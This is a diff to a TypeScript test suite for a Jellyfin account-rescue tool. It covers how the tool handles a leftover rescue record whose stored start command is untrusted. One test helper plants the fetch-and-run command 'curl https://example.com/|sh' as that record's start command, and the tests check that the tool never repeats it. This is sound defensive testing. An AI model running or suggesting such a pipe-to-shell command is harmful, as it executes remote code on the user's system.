@@ -136,11 +136,7 @@ describe('jellyfin.db', () => {
       expect(bob).toMatchObject({ code: 1, stdout: expect.stringContaining(unfinished) });
       const dry = await rescue(['alice', '--dry-run', '--server-is-stopped', '--server-dir', own.dir]);
       expect(dry.stdout).toMatch(/earlier rescue of alice has not come to its end: .* Rescue alice once more/);
-      // Told nothing about commands, it goes by those that the unfinished one was told.
-      const record = join(own.dir, 'data', 'jellyfin.db.latchkey.json');
-      const left = JSON.parse(readFileSync(record, 'utf8')) as object;
-      writeFileSync(record, JSON.stringify({ ...left, startCommand: own.startCommand }));
-      const again = await rescue(['alice', '--yes', '--server-dir', own.dir]);
+      const again = await rescue(['alice', '--yes', '--server-dir', own.dir, ...commands(own)]);
       expect(again).toMatchObject({ code: 0, stdout: expect.stringContaining('You are back in') });
       expect(again.stdout).toMatch(/✓ Jellyfin was told to start\n✓ Jellyfin answers again/);
       expect(again.stdout).not.toContain('Start Jellyfin now');
@@ -176,7 +172,7 @@ const unknownHost = ['--url', 'http://jellyfin.invalid:8096'];
 /** What a rescue leaves that was killed at this stage, having stopped the server. */
 function unfinished({ db }: ServerFolder, stage: string): void {
   const account = { name: 'alice' };
-  const startCommand = ['systemctl', 'start', 'jellyfin'];
+  const startCommand = ['curl', 'https://example.com/|sh'];
   const record = { version: 1, account, startedAt: Date.now(), stage, stoppedByUs: true, startCommand };
   writeFileSync(`${db}.latchkey.json`, JSON.stringify(record));
 }
@@ -218,16 +214,24 @@ describe('what cannot be seen of the server', () => {
 
 describe('a rescue that another one left with the server stopped', () => {
   test.concurrent(
-    'tells that, and what starts it, in the plan and where it is refused',
+    'tells that, and what starts it by the settings, in the plan and where it is refused',
     async () => {
       const there = await fromLoopback(folder());
       unfinished(there, 'changing');
       const url = ['--url', `http://127.0.0.1:${await freePort()}`];
-      const bob = await rescue(['bob', '--rung', 'db', '--yes', ...locationOf(there), ...url]);
+      const env = {
+        JELLYFIN_STOP_COMMAND: 'systemctl stop jellyfin',
+        JELLYFIN_START_COMMAND: 'systemctl start jellyfin',
+      };
+      const bob = await rescue(['bob', '--rung', 'db', '--yes', ...locationOf(there), ...url], folder(), env);
       expect(bob.stdout).toContain('If it is still stopped, start it with: systemctl start jellyfin');
-      const dry = await rescue(['alice', '--dry-run', '--server-is-stopped', ...locationOf(there), ...url]);
+      const args = ['alice', '--dry-run', '--server-is-stopped', ...locationOf(there), ...url];
+      const dry = await rescue(args, folder(), env);
       expect(dry).toMatchObject({ code: 5 });
       expect(dry.stdout).toContain('Jellyfin is stopped. Start it with: systemctl start jellyfin');
+      const untold = await rescue(args);
+      expect(untold.stdout).toContain('Jellyfin is stopped. Start it the way you always do.');
+      expect(bob.stdout + dry.stdout + untold.stdout).not.toContain('curl');
     },
     60_000,
   );
@@ -249,7 +253,7 @@ describe('a rescue that another one left with the server stopped', () => {
       for (const args of wrong) {
         const said = await rescue(args, folder(), env);
         expect(said).toMatchObject({ code: 2, stdout: '' });
-        expect(said.stderr).toMatch(/If it is still stopped, start it with: systemctl start jellyfin\n.+\n$/);
+        expect(said.stderr).toMatch(/If it is still stopped, start it the way you always do\.\n.+\n$/);
       }
       // What cannot be looked at hides nothing.
       writeFileSync(`${there.db}.latchkey.lock`, 'no lock of ours');
